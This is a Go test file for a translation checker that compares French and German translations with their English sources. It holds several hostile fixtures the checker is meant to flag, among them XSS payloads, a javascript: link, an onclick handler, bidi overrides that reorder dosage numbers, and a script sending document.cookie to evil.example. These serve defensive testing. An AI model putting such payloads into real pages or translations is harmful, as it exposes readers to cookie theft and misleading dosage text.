package check_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/lingo-l10n/lingo/internal/check"
	"github.com/lingo-l10n/lingo/internal/glossary"
)

// TestChecks gives every per-message check a passing and a failing
// fixture: French translations of English messages.
func TestChecks(t *testing.T) {
	gpath := filepath.Join(t.TempDir(), "glossary.toml")
	os.WriteFile(gpath, []byte("do_not_translate = [\"BDNF\"]\n[terms.ketamine]\nfr = \"kétamine\"\n"), 0o644)
	g, err := glossary.Load(gpath)
	if err != nil {
		t.Fatal(err)
	}
	c := check.New(check.Options{Glossary: g, Prefixes: map[string]string{"/en/": "/{lang}/"},
		Length: func(string) (float64, float64) { return 0.5, 2 }})
	tests := []struct {
		check, src, pass, fail string
		plural                 map[string]string
	}{
		{"untranslated", "Rest after your session.", "Reposez-vous après la séance.", "Rest after your session.", nil},
		{"numbers", "Relief within 2-3 days for 45% of adults.", "Soulagement en 2–3 jours pour 45 % des adultes.", "Soulagement en 3–4 jours pour 45 % des adultes.", nil},
		{"links", "See [the guide](/en/guide).", "Voir [le guide](/fr/guide).", "Voir le guide.", nil},
		{"images", "A scan: ![brain](/img/b.png)", "Une image : ![cerveau](/img/b.png)", "Une image : ![cerveau](/img/c.png)", nil},
		{"code", "Run `lingo sync` first.", "Lancez d'abord `lingo sync`.", "Lancez d'abord `lingo synchro`.", nil},
		{"emphasis", "Take **one** tablet.", "Prenez **un** comprimé.", "Prenez **un comprimé.", nil},
		{"html", `A <span class="drug">dose</span> today.`, `Une <span class="drug">dose</span> aujourd'hui.`, `Une <span class="x">dose</span> aujourd'hui.`, nil},
		{"shortcodes", `See {{< ref "guide" >}} now.`, `Voir {{< ref "guide" >}} maintenant.`, `Voir {{< ref "guid" >}} maintenant.`, nil},
		{"footnotes", "A claim[^1] here.", "Une affirmation[^1] ici.", "Une affirmation ici.", nil},
		{"unsafe-html", "Rest well today.", "Reposez-vous bien aujourd'hui.", "Reposez-vous bien <script>alert(1)</script> aujourd'hui.", nil},
		{"unsafe-url", "See [the guide](/en/guide).", "Voir [le guide](/fr/guide).", "Voir [le guide](javascript:alert(1)).", nil},
		{"event-handler", `A <span class="x">dose</span> today.`, `Une <span class="x">dose</span> aujourd'hui.`, `Une <span class="x" onclick="steal()">dose</span> aujourd'hui.`, nil},
		{"foreign-host", "See [the clinic](https://clinic.example/en/a).", "Voir [la clinique](https://clinic.example/en/a).", "Voir [la clinique](https://evil.example/en/a).", nil},
		{"glossary", "Ketamine helps.", "La kétamine aide.", "Le médicament aide.", nil},
		{"dnt", "Ketamine raises BDNF.", "La kétamine augmente le BDNF.", "La kétamine augmente le FNDC.", nil},
		{"whitespace", "Rest after your session.", "Reposez-vous après la séance.", "Reposez-vous après la séance. ", nil},
		{"double-space", "Rest after your session.", "Reposez-vous après la séance.", "Reposez-vous  après la séance.", nil},
		{"length", "Rest for the remainder of the day.", "Reposez-vous le reste de la journée.", "Repos.", nil},
	}
	for _, tt := range tests {
		t.Run(tt.check, func(t *testing.T) {
			run := func(text string) []string {
				var got []string
				for _, f := range c.Check(check.Translation{Lang: "fr", SourceLang: "en", ID: "a.p-1", Source: tt.src, Text: text}) {
					got = append(got, f.Check)
				}
				return got
			}
			if got := run(tt.pass); len(got) > 0 {
				t.Errorf("passing fixture %q: %v", tt.pass, got)
			}
			if got := run(tt.fail); !slices.Contains(got, tt.check) {
				t.Errorf("failing fixture %q: %v, want %s", tt.fail, got, tt.check)
			}
		})
	}
}

func TestPluralCheck(t *testing.T) {
	c := check.New(check.Options{})
	tr := check.Translation{Lang: "fr", SourceLang: "en", ID: "a.p-1", Source: "{{.N}} days", Text: "{{.N}} jours"}
	tr.Plural = map[string]string{"one": "{{.N}} jour", "many": "{{.N}} de jours"}
	if fs := c.Check(tr); len(fs) != 0 {
		t.Errorf("fr one/many/other: %v", fs)
	}
	tr.Plural = map[string]string{"one": "{{.N}} jour"}
	if fs := c.Check(tr); len(fs) != 1 || fs[0].Check != "plural" {
		t.Errorf("fr without many: %v", fs)
	}
}

func TestSeverityOverride(t *testing.T) {
	c := check.New(check.Options{Severity: map[string]string{"untranslated": "error", "double-space": "off"}})
	fs := c.Check(check.Translation{Lang: "fr", SourceLang: "en", Source: "Rest  now.", Text: "Rest  now."})
	if len(fs) != 1 || fs[0].Check != "untranslated" || fs[0].Severity != check.Error {
		t.Errorf("got %v", fs)
	}
}

// TestBidiControls gives the control check's bidi rule: a bidi control or
// mark the source does not have at the same place is an error; in a
// right-to-left language the marks (LRM, RLM, ALM) are the translator's.
func TestBidiControls(t *testing.T) {
	tests := []struct {
		name, lang, src, tr string
		want                string // the finding's message, "" for none
	}{
		{"override around digits", "de", "At most 12 tablets in 24 hours.", "Maximal \u202E12\u202C Tabletten in 24 Stunden.",
			`bidi control U+202E (right-to-left override) that the source does not have around "12": delete it (it reorders the text the reader sees)`},
		{"override left open", "de", "At most 12 tablets.", "Maximal \u202E12 Tabletten.",
			`bidi control U+202E (right-to-left override) that the source does not have around "12 Tabletten.": delete it (it reorders the text the reader sees)`},
		{"every embedding and isolate", "fr", "Take 12 g.", "Prenez \u202A12\u202C g.",
			`bidi control U+202A (left-to-right embedding) that the source does not have around "12": delete it (it reorders the text the reader sees)`},
		{"isolate", "fr", "Take 12 g.", "Prenez \u206812\u2069 g.",
			`bidi control U+2068 (first strong isolate) that the source does not have around "12": delete it (it reorders the text the reader sees)`},
		{"a terminator alone", "fr", "Take 12 g.", "Prenez 12\u2069 g.",
			`bidi control U+2069 (pop directional isolate) that the source does not have: delete it`},
		{"the source's isolate around the same text", "de", "The word \u2067كيتامين\u2069 means ketamine.", "Das Wort \u2067كيتامين\u2069 bedeutet Ketamin.", ""},
		{"the source's isolate moved to other text", "de", "The word \u2067كيتامين\u2069 means 12 mg.", "Das Wort كيتامين bedeutet \u206712\u2069 mg.",
			`bidi control U+2067 (right-to-left isolate) that the source does not have around "12": delete it (it reorders the text the reader sees)`},
		{"the source's isolate dropped", "de", "The word \u2067كيتامين\u2069 means ketamine.", "Das Wort كيتامين bedeutet Ketamin.", ""},
		{"a second override the source has once", "de", "Shown as \u202Eabc\u202C.", "Als \u202Eabc\u202C und \u202Eabc\u202C gezeigt.",
			`bidi control U+202E (right-to-left override) that the source does not have around "abc": delete it (it reorders the text the reader sees)`},
		{"a PDI closes the embedding inside its isolate", "de", "A \u2067b \u202Bc\u2069 d.", "A \u2067b \u202Bc\u2069 d.", ""},
		{"a mark in a left-to-right language", "de", "Take 2 g.", "Nehmen Sie\u200E 2 g.",
			`bidi mark U+200E (left-to-right mark) that the source does not have: delete it (it reorders the text around it; marks are kept only in a right-to-left language)`},
		{"a mark the source has", "fr", "The file\u200F.txt", "Le fichier\u200F.txt", ""},
		{"RLM in Arabic", "ar", "At most 12 tablets in 24 hours.", "\u200Fبحد أقصى 12 قرصًا خلال 24 ساعة.", ""},
		{"ALM and LRM in Persian, Hebrew", "fa", "Use Ketamine 2.", "از \u200EKetamine 2\u200E\u061C استفاده کنید.", ""},
		{"an isolate in Arabic", "ar", "Use the Ketamine app.", "استخدم تطبيق \u2066Ketamine\u2069.",
			`bidi control U+2066 (left-to-right isolate) that the source does not have around "Ketamine": delete it (it reorders the text the reader sees)`},
		{"an override in Hebrew", "he", "At most 12 tablets.", "לכל היותר \u202D12\u202C טבליות.",
			`bidi control U+202D (left-to-right override) that the source does not have around "12": delete it (it reorders the text the reader sees)`},
	}
	c := check.New(check.Options{})
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var got []string
			for _, f := range c.Check(check.Translation{Lang: tt.lang, SourceLang: "en", File: "f.toml", Line: 4, ID: "a.p-1", Source: tt.src, Text: tt.tr}) {
				if f.Check == "control" {
					if f.Severity != check.Error || f.Line != 4 {
						t.Errorf("%s at line %d, want an error at 4", f.Severity, f.Line)
					}
					got = append(got, f.Message)
				}
			}
			switch {
			case tt.want == "" && len(got) > 0:
				t.Errorf("%q: %q, want none", tt.tr, got)
			case tt.want != "" && (len(got) != 1 || got[0] != tt.want):
				t.Errorf("%q:\n got %q\nwant %q", tt.tr, got, tt.want)
			}
		})
	}
	// A plural form is checked as the text is.
	fs := c.Check(check.Translation{Lang: "de", SourceLang: "en", Source: "{{.N}} days", Text: "{{.N}} Tage",
		Plural: map[string]string{"one": "{{.N}} \u202ETag\u202C"}})
	if len(fs) != 1 || fs[0].Check != "control" {
		t.Errorf("plural form with an override: %v", fs)
	}
}

// TestWhatTheReaderSees: HTML comments and script or style content are
// html errors when a translation adds or changes them, and the numbers,
// units and negation checks read the text a reader sees, not what is
// hidden in a comment, a tag or a script.
func TestWhatTheReaderSees(t *testing.T) {
	tests := []struct {
		name, src, tr string
		want          []string // "check: message" prefixes, in order; nil for none
	}{
		{"negation in a comment", "Do not take more than 3 g a day.", "Nehmen Sie <!-- nicht --> mehr als 3 g pro Tag ein.",
			[]string{`direction: the source says "more than" (max) and the translation says "mehr als" (more)`, "html: HTML comment added: <!-- nicht -->", `negation: the source says "not"`}},
		{"negation in a title", `Do not take <abbr title="maximum">more than 3 g</abbr> a day.`, `Nehmen Sie <abbr title="nicht">mehr als 3 g</abbr> pro Tag ein.`,
			[]string{`direction: the source says "more than" (max)`, `negation: the source says "not"`}},
		{"negation kept in a tag", `Do <b>not</b> take more than 3 g a day.`, `Nehmen Sie <b>nicht</b> mehr als 3 g pro Tag ein.`, nil},
		{"negation across a line break", `Do not take<br>more than 3 g a day.`, `Nehmen Sie nicht<br>mehr als 3 g pro Tag ein.`, nil},
		{"numbers swapped with a title", `Take 3 g <abbr title="at most 30 g">a day</abbr>.`, `Nehmen Sie 30 g <abbr title="höchstens 3 g">pro Tag</abbr>.`,
			[]string{"numbers: number 3 in an HTML attribute", "numbers: number 3 of the source is missing", "numbers: number 30 is not in the source",
				"numbers: number 30 of the source's HTML attributes", `units: "3 g a day" of the source`}},
		{"a number in a comment", "Take 3 g a day.", "Nehmen Sie 30 g <!-- 3 g --> pro Tag.",
			[]string{"html: HTML comment added", "numbers: number 3 of the source is missing", "numbers: number 30 is not in the source", `units: "3 g a day" of the source`}},
		{"a number in a script", "Take it <script>var dose = 3;</script> with 30 mL of water.", "Nehmen Sie es <script>var dose = 3;</script> mit 30 mL Wasser.", nil},
		{"script content changed", "Take it <script>var dose = 3;</script> with water.", `Nehmen Sie es <script>var dose = 3; new Image().src = "https://evil.example/?" + document.cookie;</script> mit Wasser.`,
			[]string{`html: the content of <script> changed: "var dose = 3;" became`}},
		{"style content changed", "Read <style>.dose { color: red }</style> this.", "Lesen Sie <style>body { display: none }</style> dies.",
			[]string{`html: the content of <style> changed: ".dose { color: red }" became "body { display: none }"`}},
	}
	c := check.New(check.Options{Severity: map[string]string{"negation": "error"}})
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fs := c.Check(check.Translation{Lang: "de", SourceLang: "en", File: "f.toml", Line: 7, ID: "a.p-1", Source: tt.src, Text: tt.tr})
			check.Sort(fs)
			var got []string
			for _, f := range fs {
				if f.Severity != check.Error || f.Line != 7 {
					t.Errorf("%s at line %d, want an error at 7", f.Severity, f.Line)
				}
				got = append(got, f.Check+": "+f.Message)
			}
			ok := len(got) == len(tt.want)
			for i := range tt.want {
				ok = ok && strings.HasPrefix(got[i], tt.want[i])
			}
			if !ok {
				t.Errorf("%q:\n got %q\nwant %q...", tt.tr, got, tt.want)
			}
		})
	}
}
